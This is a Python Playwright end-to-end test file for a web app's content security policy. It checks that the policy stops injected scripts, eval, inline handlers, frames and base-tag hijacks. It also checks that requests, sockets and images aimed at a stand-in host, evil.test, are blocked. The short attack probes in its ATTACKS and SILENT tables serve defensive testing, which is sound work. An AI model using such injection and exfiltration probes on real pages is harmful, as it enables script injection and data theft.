"""The page's content security policy: nothing of ours needs what it forbids, and it forbids what an attacker needs."""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, ConsoleMessage, Page, expect

from .conftest import Server, answered, drawn

pytestmark = pytest.mark.e2e

WATCH = """window.violations = [];
document.addEventListener('securitypolicyviolation', e => window.violations.push(
  `${e.effectiveDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber} ${e.sample}`));"""
ATTACKS = {
    "inline script": "() => { const s = document.createElement('script'); s.append('1'); document.body.append(s); }",
    "inline handler": "() => document.body.setAttribute('onclick', '1')",
    "markup": "() => { document.createElement('div').innerHTML = '<img src=x>'; }",
    "policy of its own": "() => trustedTypes.createPolicy('evil', { createHTML: text => text })",
    "eval": "() => { (0, eval)('1'); }",
    "text as code": "() => { setTimeout('1'); }",
    "foreign script": "() => { const s = document.createElement('script'); s.src = 'https://evil.test/x.js'; }",
    "foreign worker": "() => { new Worker('data:text/javascript,1'); }",
}
# Not within the browser's own debugger, to which the policy does not apply.
LATER = """() => new Promise(done => setTimeout(async () => {
  try { await (%s)(); done('done'); } catch (error) { done(error.name); }
}))"""
SILENT = {
    "foreign request": "() => fetch('https://evil.test/').then(() => 'sent', () => 'stopped')",
    "foreign socket": "() => { new WebSocket('wss://evil.test/'); }",
    "foreign picture": "() => { new Image().src = 'https://evil.test/x.png'; }",
    "foreign frame": "() => { const f = document.createElement('iframe'); f.src = '/'; document.body.append(f); }",
    "style element": "() => { const s = document.createElement('style'); s.append('*{}'); document.body.append(s); }",
    "base": "() => { const b = document.createElement('base'); b.href = '//evil.test/'; document.head.append(b); }",
}


@pytest.fixture
def watched(browser: Browser) -> Iterator[Page]:
    """A page that notes each violation of its policy."""
    context = browser.new_context(ignore_https_errors=True, timezone_id="UTC")
    context.set_default_timeout(20_000)
    context.add_init_script(WATCH)
    yield context.new_page()
    context.close()


def violations(page: Page) -> list[str]:
    """What the policy has stopped so far."""
    page.wait_for_timeout(50)
    found: list[str] = page.evaluate("violations")
    return found


def test_the_page_needs_nothing_that_is_forbidden(server: Server, watched: Page) -> None:
    """Charts, editor, completion, dialogs, menus and tables come without a single violation."""
    watched.goto(server.url + "/host")
    drawn(watched)
    found = violations(watched)
    watched.goto(server.url + "/explore?q=node_load1&q=rate(node_load1)&from=now-5m")
    answered(watched)
    watched.get_by_role("textbox", name="Query A").click()
    watched.keyboard.press("Control+a")
    watched.keyboard.type("node_l")
    expect(watched.locator(".cm-tooltip-autocomplete")).to_be_visible()
    watched.keyboard.press("Escape")
    watched.keyboard.press("Control+k")
    expect(watched.get_by_role("dialog")).to_be_visible()
    watched.keyboard.press("Escape")
    assert found + violations(watched) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_scripts_of_others_do_not_run(server: Server, watched: Page, attack: str) -> None:
    """Injected code, markup and policies fail where they are tried, and the policy tells so."""
    watched.goto(server.url + "/host")
    outcome = watched.evaluate(LATER % ATTACKS[attack])
    assert outcome in ("TypeError", "EvalError", "SecurityError") or violations(watched) != []


@pytest.mark.parametrize("attack", SILENT)
def test_nothing_is_fetched_from_or_sent_to_others(server: Server, watched: Page, attack: str) -> None:
    """Requests, sockets, pictures, frames and styles that are not ours are stopped."""
    watched.goto(server.url + "/host")
    watched.evaluate(f"() => {{ ({SILENT[attack]})(); }}")
    watched.wait_for_function("() => violations.length > 0")


def is_refusal(line: ConsoleMessage) -> bool:
    """That a frame may not show what it was to show."""
    return "frame-ancestors" in line.text or "refused to connect" in line.text.lower()


def test_the_page_cannot_be_framed(server: Server, browser: Browser, tmp_path: Path) -> None:
    """Not by another site's page."""
    context = browser.new_context()
    page = context.new_page()
    (tmp_path / "frame.html").write_text(f"<iframe src='{server.url}/'></iframe>")
    with page.expect_console_message(is_refusal):
        page.goto(f"file://{tmp_path}/frame.html")
    context.close()


@pytest.fixture
def encrypted(browser: Browser, tmp_path: Path) -> Iterator[str]:
    """The URL of a server with a certificate of its own."""
    command = ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes"]
    command += ["-subj", "/CN=localhost", "-addext", "subjectAltName=IP:127.0.0.1", "-days", "2"]
    command += ["-keyout", str(tmp_path / "key.pem"), "-out", str(tmp_path / "cert.pem")]
    subprocess.run(command, check=True, capture_output=True)
    command = [str(Path(sys.executable).with_name("vedette")), "serve", "--data", str(tmp_path / "data")]
    command += ["--port", "0", "--no-auth", "--set", f"http.tls_cert_file={tmp_path}/cert.pem"]
    command += ["--set", f"http.tls_key_file={tmp_path}/key.pem"]
    process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
    try:
        assert process.stdout is not None
        line = next(line for line in process.stdout if "https://" in line)
        yield line[line.index("https://") :].strip()
    finally:
        process.terminate()
        process.communicate(timeout=20)


def test_the_page_lives_over_tls(encrypted: str, watched: Page) -> None:
    """Over https the page and its socket work as they do without, and nothing is asked for in the clear."""
    asked: list[str] = []
    watched.on("request", lambda request: asked.append(request.url))
    watched.on("websocket", lambda socket: asked.append(socket.url))
    watched.goto(encrypted + "/")
    expect(watched.locator(".live__state")).to_have_text("LIVE")
    drawn(watched)
    assert violations(watched) == []
    assert any(url.startswith("wss://") for url in asked)
    assert [url for url in asked if not url.startswith(("https://", "wss://", "data:", "blob:"))] == []
